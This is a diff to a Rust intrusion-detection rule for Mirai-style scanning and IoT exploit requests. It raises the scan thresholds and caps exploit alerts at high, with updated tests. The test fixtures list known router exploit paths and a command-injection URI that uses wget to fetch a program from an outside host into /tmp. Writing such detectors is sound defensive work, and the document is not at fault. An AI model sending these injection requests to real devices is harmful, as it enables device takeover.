@@ -28,9 +28,9 @@ pub static SPEC: Spec = Spec {
             debugger, TR-069, UPnP of several makers …); a single port is for `horizontal_scan`. Rule, exploits: \
             requests over HTTP that only the exploits of such devices send, or that fetch and run a program in a \
             parameter, to distinct servers.",
-        numbers: "Mirai's descendants try 100 to 1,000 hosts a second, the slowest some a second; 40 pairs, as for a \
-            single port of worms. An exploit is high at once and critical at three servers: one server may be \
-            the owner's own test.",
+        numbers: "Mirai's descendants try 100 to 1,000 hosts a second, the slowest some a second; 200 pairs, which a \
+            page that makes a browser fetch from dead addresses has not. An exploit is high: a page can make a \
+            browser send it, to as many servers as it likes.",
         quiet: "The requests are whole paths with their parameter; owners' management does not go to many hosts \
             outside. Searching inwards is for the other scans.",
         evasion: "New exploits; TLS; searching slowly.",
@@ -46,7 +46,7 @@ pub const SEARCHED: Threshold = Threshold::steps(
     &[
         rung(15, ThreatLevel::Medium, 0.7),
         rung(25, ThreatLevel::High, 0.8),
-        rung(40, ThreatLevel::Critical, 0.95),
+        rung(200, ThreatLevel::Critical, 0.95),
     ],
 );
 /// Steps in servers at which exploits were tried.
@@ -54,7 +54,7 @@ pub const EXPLOITED: Threshold = Threshold::steps(
     "exploited",
     "servers at which one host tries exploits of devices in a window",
     Unit::Count,
-    &[rung(1, ThreatLevel::High, 0.8), rung(3, ThreatLevel::Critical, 0.95)],
+    &[rung(1, ThreatLevel::High, 0.8), rung(3, ThreatLevel::High, 0.9)],
 );
 
 const MINUTES: Span = Span::from_secs(300);
@@ -263,7 +263,7 @@ mod tests {
 
     #[test]
     fn a_search_over_two_ports_climbs_to_critical() {
-        let told = searched(60, &[23, 2323], 1, "192.168.1.66");
+        let told = searched(240, &[23, 2323], 1, "192.168.1.66");
         assert_eq!(levels(&told), ["medium 0.7", "high 0.8", "critical 0.95"]);
         assert_eq!(told[0].attacker, Entity::Ip(at("192.168.1.66")));
         assert!(searched(14, &[23, 2323], 1, "192.168.1.66").is_empty());
@@ -284,7 +284,7 @@ mod tests {
     }
 
     #[test]
-    fn exploits_are_high_at_once_and_critical_at_three_servers() {
+    fn exploits_are_high_at_once_and_never_critical_since_a_page_can_send_them() {
         for uri in [
             "/GponForm/diag_Form?images/",
             "/ctrlt/DeviceUpgrade_1",
@@ -293,7 +293,7 @@ mod tests {
             "/x?y=;wget%20http://203.0.113.9/a%20-O%20/tmp/a",
         ] {
             assert_eq!(levels(&asked(1, uri)), ["high 0.8"], "{uri}");
-            assert_eq!(levels(&asked(5, uri)), ["high 0.8", "critical 0.95"], "{uri}");
+            assert_eq!(levels(&asked(5, uri)), ["high 0.8", "high 0.9"], "{uri}");
         }
     }
 
